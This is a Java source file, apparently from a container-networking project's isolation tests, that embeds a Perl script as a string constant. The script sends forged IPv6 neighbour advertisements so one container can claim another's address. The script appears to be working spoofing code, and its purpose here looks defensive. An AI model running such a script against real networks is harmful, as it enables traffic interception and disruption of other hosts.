package io.coredeck.node.network;

/// What a container may try that would like to be another one over IPv6.
final class FalseNeighbour {

  /// Perl: sends a neighbour advertisement from its own addresses, but for somebody else's, with an
  /// own hardware address. Arguments: that address, the hardware address, who is told. ICMPv6 of a
  /// raw socket gets its checksum from the kernel.
  static final String SCRIPT =
      """
      use Socket qw(:all);
      my ($target, $mac, $to) = @ARGV;
      socket(my $s, AF_INET6, SOCK_RAW, 58) or die $!;
      setsockopt($s, 41, 18, pack('i', 255)) or die $!;
      setsockopt($s, 41, 16, pack('i', 255)) or die $!;
      my $message = pack('CCnN', 136, 0, 0, 0x20000000) . inet_pton(AF_INET6, $target)
        . pack('CC', 2, 1) . pack('H12', $mac =~ tr/://dr);
      send($s, $message, 0, pack_sockaddr_in6(0, inet_pton(AF_INET6, $to))) or die $!;
      """;

  private FalseNeighbour() {}
}
